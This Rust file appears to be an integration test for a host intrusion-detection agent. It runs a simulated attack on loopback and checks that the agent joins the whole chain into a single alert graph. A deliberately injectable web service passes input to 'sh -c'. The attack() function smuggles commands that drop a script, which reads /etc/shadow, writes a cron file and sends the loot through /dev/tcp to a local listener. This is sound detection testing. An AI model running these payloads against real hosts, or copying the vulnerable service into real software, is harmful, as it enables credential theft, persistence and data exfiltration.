//! A harmless attack, really carried out: a small web service with a hole is made to drop and run a program that reads
//! /etc/shadow, adds a cron job and connects out to a listener on loopback, with ordinary load beside it. It must become
//! one alert graph, from the accepted connection to the outgoing one, soon after its last step.

use crate::operations::Started;
use anyhow::{Context, Result, bail, ensure};
use std::collections::BTreeMap;
use std::io::{BufRead, BufReader, Read, Write};
use std::net::{Ipv4Addr, SocketAddr, TcpListener, TcpStream};
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};
use std::{env, fs, io};
use tracewell_agent::Pipeline;
use tracewell_agent::live::Live;
use tracewell_agent::sensor::tier::Asked;
use tracewell_agent::sensor::{Options, SensorError};
use tracewell_alert_scorer::words::Names;
use tracewell_graph_core::history::MemoryHistory;
use tracewell_model::{AlertGraph, AlertId, HostId, HostRecord, NodeAttrs, Record};
use tracewell_parameters::Parameters;
use tracewell_wire::{MemoryEnd, Payload, Transport, decode, memory_pair};

/// Arguments of the processes that play a part.
pub const SERVE: &str = "serve";
pub const LOAD: &str = "load";

/// How soon after its last step the whole chain must be in one alert.
const WITHIN: Duration = Duration::from_secs(5);
/// Requests that the service answers, and rounds of the load: both stop by themselves.
const REQUESTS_MAX: usize = 500;
const ROUNDS_MAX: usize = 200;
/// What the attack adds and the test takes away again. Cron reads it as a comment.
const CRON_JOB: &str = "/etc/cron.d/tracewell-kernel-tests";

/// The service: `GET /ping?<host>` gives the host to a shell, unchecked. Says its port on stdout.
pub fn serve() -> Result<()> {
    let listener = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
    println!("{}", listener.local_addr()?.port());
    io::stdout().flush()?;
    for stream in listener.incoming().take(REQUESTS_MAX) {
        let mut stream = stream?;
        let mut line = String::new();
        BufReader::new(&stream).read_line(&mut line)?;
        let host = line.split(['?', ' ']).nth(2).unwrap_or_default().replace("%20", " ").replace("%3F", "?");
        let output = Command::new("sh").arg("-c").arg(format!("echo ping {host}")).output()?;
        stream.write_all(b"HTTP/1.0 200 OK\r\n\r\n")?;
        stream.write_all(&output.stdout)?;
    }
    Ok(())
}

/// Ordinary life: ordinary requests, and files read and written.
pub fn load(port: u16) -> Result<()> {
    let folder = env::temp_dir().join(format!("kernel-tests-load-{}", std::process::id()));
    fs::create_dir(&folder)?;
    for round in 0..ROUNDS_MAX {
        // The test may have ended the service.
        if request(port, "localhost").is_err() {
            break;
        }
        fs::write(folder.join(format!("page-{}", round % 8)), "text")?;
        for file in ["/etc/hostname", "/etc/passwd", "/etc/services"] {
            let _ = fs::read(file);
        }
        #[expect(clippy::disallowed_methods, reason = "ordinary life is in no hurry")]
        std::thread::sleep(Duration::from_millis(20));
    }
    fs::remove_dir_all(&folder).context("removing the load's folder")
}

fn request(port: u16, host: &str) -> io::Result<String> {
    let mut stream = TcpStream::connect((Ipv4Addr::LOCALHOST, port))?;
    stream.set_read_timeout(Some(Duration::from_secs(5)))?;
    write!(stream, "GET /ping?{} HTTP/1.0\r\n\r\n", host.replace(' ', "%20").replace('?', "%3F"))?;
    let mut answer = String::new();
    stream.read_to_string(&mut answer)?;
    Ok(answer)
}

/// Carries it out and looks at what the agent makes of it.
pub fn test(tier: Asked) -> Result<()> {
    let mut service = Started::new(Command::new("/proc/self/exe").arg(SERVE))?;
    let port: u16 = service.line()?.trim().parse().context("the service's port")?;
    let mut load = Command::new("/proc/self/exe");
    let _load = Started::new(load.args([LOAD, &port.to_string()]))?;
    let outside = TcpListener::bind((Ipv4Addr::LOCALHOST, 0))?;
    let mut watch = Watch::start(tier)?;
    watch.run_for(Duration::from_secs(2))?;

    let folder = env::temp_dir().join(format!("kernel-tests-attack-{}", std::process::id()));
    fs::create_dir(&folder)?;
    let attacked = attack(port, &folder, outside.local_addr()?);
    let done = Instant::now();
    let found = attacked.and_then(|()| watch.run_until_found(&folder, port, outside.local_addr()?, done));
    let _ = fs::remove_file(CRON_JOB);
    fs::remove_dir_all(&folder).context("removing the attack's folder")?;
    println!("the whole chain was in one alert {:.1} s after its last step", found?.as_secs_f64());
    watch.replays_to_the_same()
}

/// The requests of the attacker: one drops a program, one runs it.
fn attack(port: u16, folder: &Path, outside: SocketAddr) -> Result<()> {
    let (program, loot) = (folder.join("update"), folder.join("loot"));
    let (program, loot) = (program.display(), loot.display());
    let lines = [
        "#!/bin/sh".to_owned(),
        format!("cat /etc/shadow > {loot}"),
        format!("echo \"# harmless\" > {CRON_JOB}"),
        format!("exec bash -c \"cat {loot} > /dev/tcp/127.0.0.1/{}\"", outside.port()),
    ];
    for line in lines {
        request(port, &format!("; echo '{line}' >> {program}"))?;
    }
    request(port, &format!("; chmod 755 {program}; {program}"))?;
    Ok(())
}

/// The agent, without its program: the live source, the pipeline, and what leaves it.
struct Watch {
    live: Live,
    records: Vec<Record>,
    agent: Agent,
}

struct Agent {
    pipeline: Pipeline,
    end: MemoryEnd,
    other_end: MemoryEnd,
    frames: Vec<Vec<u8>>,
    alerts: BTreeMap<AlertId, AlertGraph>,
}

impl Agent {
    fn new() -> Self {
        let (end, other_end) = memory_pair();
        let pipeline = Pipeline::new(&host(), &Parameters::default(), Box::new(MemoryHistory::new()));
        Self { pipeline, end, other_end, frames: Vec::new(), alerts: BTreeMap::new() }
    }

    fn take(&mut self, record: &Record) -> Result<()> {
        self.pipeline.record(record, &mut self.end)?;
        self.receive()
    }

    fn receive(&mut self) -> Result<()> {
        while let Some(frame) = self.other_end.receive() {
            if let Payload::Alert(update) = decode(&frame)?.payload {
                match self.alerts.get_mut(&update.graph.id) {
                    Some(known) => known.apply(update).map_err(anyhow::Error::msg)?,
                    None => _ = self.alerts.insert(update.graph.id, update.graph),
                }
            }
            self.frames.push(frame);
        }
        Ok(())
    }
}

fn host() -> HostRecord {
    HostRecord { host: HostId::from_name("kernel-tests"), name: "kernel-tests".into() }
}

impl Watch {
    /// Everything on the machine: what else it does is part of the load.
    fn start(tier: Asked) -> Result<Self> {
        let options = Options { tier, ..Options::default() };
        let mut watch = Self { live: Live::start(host().host, &options)?, records: Vec::new(), agent: Agent::new() };
        watch.records.push(Record::Host(host()));
        watch.agent.take(&Record::Host(host()))?;
        Ok(watch)
    }

    fn turn(&mut self) -> Result<()> {
        let Self { live, records, .. } = self;
        let from = records.len();
        live.turn(|record| {
            records.push(record);
            Ok::<_, SensorError>(())
        })?;
        self.records[from..].iter().try_for_each(|record| self.agent.take(record))
    }

    fn run_for(&mut self, duration: Duration) -> Result<()> {
        let start = Instant::now();
        while start.elapsed() < duration {
            self.turn()?;
        }
        Ok(())
    }

    /// Gives how long it took.
    fn run_until_found(&mut self, folder: &Path, port: u16, outside: SocketAddr, done: Instant) -> Result<Duration> {
        loop {
            self.turn()?;
            let alerts = self.agent.alerts.values();
            let best = alerts
                .map(|alert| (missing(alert, folder, port, outside), alert))
                .min_by_key(|(missing, _)| missing.len());
            match best {
                Some((missing, _)) if missing.is_empty() => return Ok(done.elapsed()),
                Some((missing, alert)) if done.elapsed() > WITHIN => {
                    let names = Names::of(&[alert]);
                    let nodes: Vec<_> = alert.nodes.keys().map(|key| names.name(*key)).collect();
                    let (missing, nodes) = (missing.join(", "), nodes.join(", "));
                    bail!(
                        "within {} s no alert had the whole chain; the best lacked {missing}; it had {nodes}",
                        WITHIN.as_secs()
                    );
                }
                None if done.elapsed() > WITHIN => bail!("there was no alert within {} s", WITHIN.as_secs()),
                _ => {}
            }
        }
    }

    /// The recording of the run, through the format and a new agent, gives the very frames of the live run.
    fn replays_to_the_same(&mut self) -> Result<()> {
        let Self { live, records, .. } = self;
        let from = records.len();
        live.finish(|record| {
            records.push(record);
            Ok::<_, SensorError>(())
        })?;
        self.records[from..].iter().try_for_each(|record| self.agent.take(record))?;
        self.agent.pipeline.finish(&mut self.agent.end)?;
        self.agent.receive()?;

        let mut replayed = Agent::new();
        self.records.iter().try_for_each(|record| replayed.take(record))?;
        replayed.pipeline.finish(&mut replayed.end)?;
        replayed.receive()?;
        ensure!(!replayed.frames.is_empty(), "the replay sent nothing");
        ensure!(replayed.frames == self.agent.frames, "the replay sent other frames than the live run");
        Ok(())
    }
}

/// What of the chain is not in an alert.
fn missing(alert: &AlertGraph, folder: &Path, port: u16, outside: SocketAddr) -> Vec<String> {
    let file = |path: &str| {
        alert.nodes.values().any(|node| matches!(&node.attrs, NodeAttrs::File { path: Some(at), .. } if &**at == path))
    };
    let socket = |is: &dyn Fn(Option<SocketAddr>, Option<SocketAddr>) -> bool| {
        alert
            .nodes
            .values()
            .any(|node| matches!(&node.attrs, NodeAttrs::Socket { local, remote, .. } if is(*local, *remote)))
    };
    let program = folder.join("update").display().to_string();
    let process = alert
        .nodes
        .values()
        .any(|node| matches!(&node.attrs, NodeAttrs::Process { cmdline: Some(line), .. } if line.contains(&program)));
    [
        ("the accepted connection", socket(&|local, _| local.is_some_and(|local| local.port() == port))),
        ("the dropped program", file(&program)),
        ("the process that ran it", process),
        ("/etc/shadow", file("/etc/shadow")),
        ("the cron job", file(CRON_JOB)),
        ("the outgoing connection", socket(&|_, remote| remote == Some(outside))),
    ]
    .into_iter()
    .filter(|(_, is_there)| !is_there)
    .map(|(what, _)| what.to_owned())
    .collect()
}
